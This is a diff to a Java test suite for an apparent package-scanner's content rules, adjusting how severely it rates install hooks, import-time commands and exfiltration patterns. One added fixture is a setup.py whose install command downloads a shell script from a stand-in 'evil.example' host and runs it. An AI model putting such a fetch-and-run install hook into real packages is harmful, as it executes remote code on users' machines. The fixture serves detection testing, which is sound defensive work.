@@ -65,7 +65,19 @@ class ContentRulesTest {
                 urllib.request.urlretrieve('https://evil.example/x.sh', '/tmp/x.sh')
         setup(name='demo', cmdclass={'install': Evil})
         """);
-        assertThat(setup.severity()).isEqualTo(Severity.HIGH);
+        assertThat(setup.severity()) // a build step that fetches a library's source is common (issue 18)
+                .isEqualTo(Severity.MEDIUM);
+        Finding runs = only(new StartupHooks(), "demo-1.0/setup.py", """
+        from setuptools import setup
+        from setuptools.command.install import install
+        import os, urllib.request
+        class Evil(install):
+            def run(self):
+                urllib.request.urlretrieve('https://evil.example/x.sh', '/tmp/x.sh')
+                os.system('sh /tmp/x.sh')
+        setup(name='demo', cmdclass={'install': Evil})
+        """);
+        assertThat(runs.severity()).isEqualTo(Severity.HIGH);
 
         // npm's install scripts are the npm format's (NpmFormatTest), not a content rule's.
         assertThat(check(
@@ -112,8 +124,17 @@ class ContentRulesTest {
         """))
                 .singleElement()
                 .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
-        assertThat(check(new ImportTimeSideEffects(), "pkg/helpers.py", "import os\nos.system('ls')\n"))
+        // every module may be imported (lightning's payload module was imported by __init__), tests are not
+        assertThat(only(new ImportTimeSideEffects(), "pkg/helpers.py", "import os\nos.system('ls')\n")
+                        .severity())
+                .isEqualTo(Severity.HIGH);
+        assertThat(check(new ImportTimeSideEffects(), "pkg/tests/test_cli.py", "import os\nos.system('ls')\n"))
                 .isEmpty();
+        assertThat(check(new ImportTimeSideEffects(), "pkg/helpers.py", """
+        import os
+        if __name__ == "__main__":
+            os.system('ls')
+        """)).isEmpty();
     }
 
     @Test
@@ -216,8 +237,16 @@ class ContentRulesTest {
         """);
         assertThat(findings)
                 .extracting(Finding::severity)
-                .containsExactly(Severity.HIGH, Severity.MEDIUM, Severity.MEDIUM);
-        assertThat(findings.get(2).excerpt()).contains("94.154.172.43");
+                .containsExactly(Severity.HIGH, Severity.LOW, Severity.MEDIUM, Severity.MEDIUM);
+        assertThat(findings.get(0).message()).contains("worm");
+        assertThat(findings.get(3).excerpt()).contains("94.154.172.43");
+
+        // creating a repository is a GitHub client's API (PyGithub, octokit): weak alone
+        assertThat(only(new Exfiltration(), "github/AuthenticatedUser.py", """
+        def create_repo(self, name):
+            return self._requester.requestJsonAndCheck("POST", "/user/repos", input={"name": name})
+        """).severity())
+                .isEqualTo(Severity.LOW);
 
         assertThat(check(
                         new Exfiltration(),
